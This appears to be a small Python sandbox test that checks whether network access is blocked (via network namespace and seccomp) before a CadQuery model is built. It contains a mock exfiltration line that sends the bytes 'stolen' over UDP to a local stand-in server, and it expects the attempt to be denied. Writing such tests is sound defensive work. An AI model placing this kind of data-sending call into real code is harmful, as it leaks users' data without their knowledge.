# Sends a datagram to a server of the user's.
# expect: denied exception
# alone: net_ns seccomp
import socket

with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.settimeout(2)
    s.sendto(b"stolen", ("127.0.0.1", int("@UDP@")))
import cadquery as cq

solid = cq.Workplane().box(1, 1, 1)  # reached only if the attack worked
